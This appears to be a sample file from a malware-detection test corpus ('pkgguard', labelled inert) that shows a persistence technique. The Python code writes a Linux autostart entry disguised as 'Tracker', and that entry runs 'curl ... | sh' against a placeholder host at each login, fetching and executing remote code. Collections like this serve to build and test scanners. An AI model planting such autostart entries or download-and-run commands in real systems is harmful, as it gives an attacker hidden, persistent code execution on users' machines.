# pkgguard corpus 186 (persistence), modelled on [developer-persistence]; inert, never run.
import os

config = os.environ.get("XDG_CONFIG_HOME") or os.path.expanduser("~/.config")
folder = os.path.join(config, "autostart")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "tracker-miner.desktop"), "w") as f:
    f.write("[Desktop Entry]\nType=Application\nName=Tracker\nExec=sh -c 'curl -s https://cdn.example/d | sh'\n")
